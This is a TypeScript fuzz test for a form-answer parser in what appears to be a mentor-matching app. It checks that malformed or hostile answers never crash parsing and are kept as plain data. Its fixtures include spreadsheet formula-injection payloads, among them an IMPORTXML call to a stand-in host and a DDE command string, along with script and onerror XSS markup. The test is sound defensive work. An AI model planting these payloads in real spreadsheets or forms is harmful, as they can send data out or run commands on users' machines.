// At least 500 generated malformed answers (seeded): parsing never throws, each ends as a profile or reasons, formulas stay data.
import { parseMentorAnswer, parseRequestAnswer, type ParseResult } from '../../../src/domain/forms';
import { prng } from '../../../bench/scenarios/matching-instances';
import { mentorAnswer, requestAnswer, vocabulary } from './fixtures';

const FORMULAS = [
  '=IMPORTXML("http://evil.example/x","//a")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://x","клик")',
  "=cmd|' /C calc'!A0",
];
const MARKUP = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><b>жирный</b>', '&lt;&gt;&amp;'];

function mutation(rnd: () => number): { value: unknown; payload: string | null } {
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(rnd() * xs.length)]!;
  switch (Math.floor(rnd() * 12)) {
    case 0:
      return { value: [''], payload: null };
    case 1:
      return { value: undefined, payload: null };
    case 2:
      return { value: [42], payload: null };
    case 3:
      return { value: { nested: true }, payload: null };
    case 4:
      return { value: null, payload: null };
    case 5: {
      const p = pick(FORMULAS);
      return { value: [p], payload: p };
    }
    case 6: {
      const p = pick(MARKUP);
      return { value: [p], payload: p };
    }
    case 7:
      return { value: ['я'.repeat(1 + Math.floor(rnd() * 60_000))], payload: null };
    case 8:
      return { value: ['неизвестное значение ' + Math.floor(rnd() * 1000)], payload: null };
    case 9:
      return { value: ['пять лет'], payload: null };
    case 10:
      return { value: ['  \t\n '], payload: null };
    default: {
      const p = `Иванова ${pick(FORMULAS)}`;
      return { value: [p], payload: p };
    }
  }
}

function check(result: ParseResult<Record<string, unknown>>, payloads: Array<{ title: string; p: string }>): void {
  if (result.ok) {
    const dump = JSON.stringify(result.profile);
    // Accepted with a payload in an answer field: the payload is in the profile verbatim (the writer neutralises it later).
    for (const { title, p } of payloads)
      if (title !== 'Отметка времени') expect(dump).toContain(JSON.stringify(p).slice(1, -1));
    expect(typeof result.profile.email).toBe('string');
  } else {
    expect(result.reasons.length).toBeGreaterThan(0);
    for (const r of result.reasons) {
      expect(typeof r).toBe('string');
      expect(r.length).toBeLessThan(600); // huge answers are quoted clipped
    }
  }
}

describe('generated malformed answers (seeded)', () => {
  const N = 300;
  for (const [name, base, parse] of [
    ['request', requestAnswer, parseRequestAnswer],
    ['mentor', mentorAnswer, parseMentorAnswer],
  ] as const) {
    test(`${N} malformed ${name} answers: no throw, a profile or Russian reasons, formula text kept as data`, () => {
      const rnd = prng(name === 'request' ? 4242 : 2424);
      let ok = 0;
      let bad = 0;
      for (let i = 0; i < N; i++) {
        const answer: Record<string, unknown> = base();
        const titles = Object.keys(answer);
        const payloads: Array<{ title: string; p: string }> = [];
        const n = 1 + Math.floor(rnd() * 3);
        for (let j = 0; j < n; j++) {
          const title = titles[Math.floor(rnd() * titles.length)]!;
          const m = mutation(rnd);
          answer[title] = m.value;
          for (let k = payloads.length - 1; k >= 0; k--) if (payloads[k]!.title === title) payloads.splice(k, 1);
          if (m.payload) payloads.push({ title, p: m.payload });
        }
        if (rnd() < 0.05) answer['Лишний вопрос'] = ['=IMPORTXML(1)'];
        let result!: ParseResult<Record<string, unknown>>;
        expect(() => {
          result = (parse as (nv: unknown, v: typeof vocabulary) => ParseResult<Record<string, unknown>>)(
            answer,
            vocabulary,
          );
        }).not.toThrow();
        check(result, payloads);
        if (result.ok) ok++;
        else bad++;
      }
      expect(ok + bad).toBe(N);
      expect(bad).toBeGreaterThan(0);
      expect(ok).toBeGreaterThan(0);
    });
  }

  test('a formula or markup payload in a free-text field survives parsing exactly (trimmed only)', () => {
    for (const p of [...FORMULAS, ...MARKUP]) {
      const a = requestAnswer();
      a['Опишите профессиональные затруднения'] = [`  ${p}  `];
      a['Предпочитаемый наставник'] = [p];
      const r = parseRequestAnswer(a, vocabulary);
      if (!r.ok) throw new Error(r.reasons.join('; '));
      expect(r.profile.requestText.endsWith(p)).toBe(true);
      expect(r.profile.preferredMentor).toBe(p);
    }
  });

  test('non-object namedValues (null, a string, an array) give reasons, never a throw', () => {
    for (const nv of [null, undefined, 'строка', [1, 2], 7]) {
      const r = parseRequestAnswer(nv, vocabulary);
      expect(r.ok).toBe(false);
    }
  });
});
